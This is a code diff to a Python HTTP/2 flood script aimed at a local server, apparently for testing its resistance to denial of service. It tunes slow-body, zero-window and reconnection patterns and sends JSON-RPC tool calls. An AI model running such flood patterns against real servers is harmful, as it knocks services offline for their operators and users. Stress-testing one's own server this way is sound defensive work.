@@ -17,12 +17,11 @@ from hpack import Encoder
 from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
 
 BATCH = 100
-STREAMS = 30
 CONNECTIONS = 20
 SEND_SECONDS = 0.5
-# The pause before a connection is opened again, and between bytes that trickle.
+# The pause before a connection is opened again, and from one step of a connection to its next where many trickle.
 REST_SECONDS = 0.02
-TRICKLE_SECONDS = 0.5
+TRICKLE_SECONDS = 0.25
 CANCEL = 8
 CALL = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "large", "arguments": {}}}
 
@@ -38,9 +37,12 @@ class Flood:
     def connect(self):
         self.socket = socket.create_connection(("127.0.0.1", self.port), timeout=SEND_SECONDS)
         connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-        connection.update_settings(self.settings or {})
         connection.initiate_connection()
+        if self.settings:
+            connection.update_settings(self.settings)
         self.socket.sendall(connection.data_to_send())
+        if self.socket.recv(4) == b"HTTP":
+            sys.exit("HTTP/2 is not spoken here: this would be no attack")
         self.connections += 1
         self.stream = 1
 
@@ -116,21 +118,17 @@ def empty_data(flood):
 
 
 def endless(flood):
-    """Bodies that are announced, begun and never ended."""
-    if flood.stream == 1:
-        flood.send([flood.head(["END_HEADERS"], 1000) for _ in range(STREAMS)])
+    """Bodies that are announced, begun and never ended, and a byte for each of them now and then."""
+    flood.send([flood.head(["END_HEADERS"], 1000)])
     flood.send([DataFrame(number, b" ") for number in range(1, flood.stream, 2)])
     flood.drain()
 
 
 def zero_window(flood):
-    """Calls with large answers that may not be sent."""
-    if flood.stream == 1:
-        body = json.dumps(CALL).encode()
-        for _ in range(STREAMS):
-            head = flood.head(["END_HEADERS"], len(body))
-            flood.send([head, DataFrame(head.stream_id, body, flags=["END_STREAM"])])
-    flood.send([PingFrame(0, b"8 octets")])
+    """Calls with large answers that may not be sent, one after the other: a burst of calls would be another attack."""
+    body = json.dumps(CALL).encode()
+    head = flood.head(["END_HEADERS"], len(body))
+    flood.send([head, DataFrame(head.stream_id, body, flags=["END_STREAM"])])
     flood.drain()
 
 
@@ -162,8 +160,8 @@ def main():
             except OSError:
                 flood.close()
                 time.sleep(REST_SECONDS)
-        if width > 1:
-            time.sleep(TRICKLE_SECONDS)
+            if width > 1:
+                time.sleep(TRICKLE_SECONDS / width)
     for flood in floods:
         flood.close()
     print(json.dumps({"frames": sum(flood.sent for flood in floods), "connections": sum(flood.connections for flood in floods)}))
